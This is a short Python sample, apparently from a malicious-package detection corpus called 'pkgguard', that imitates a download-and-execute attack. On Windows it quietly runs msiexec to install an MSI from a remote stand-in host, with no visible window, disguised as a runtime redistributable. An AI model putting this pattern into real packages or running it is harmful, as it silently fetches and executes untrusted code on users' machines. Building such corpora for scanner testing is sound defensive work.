# pkgguard corpus 607 (download-execute), modelled on [checkmarx-2024]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(
        ["msiexec", "/i", "https://runtime-dist.example/vcredist.msi", "/qn", "/norestart"],
        creationflags=0x08000000,
    )
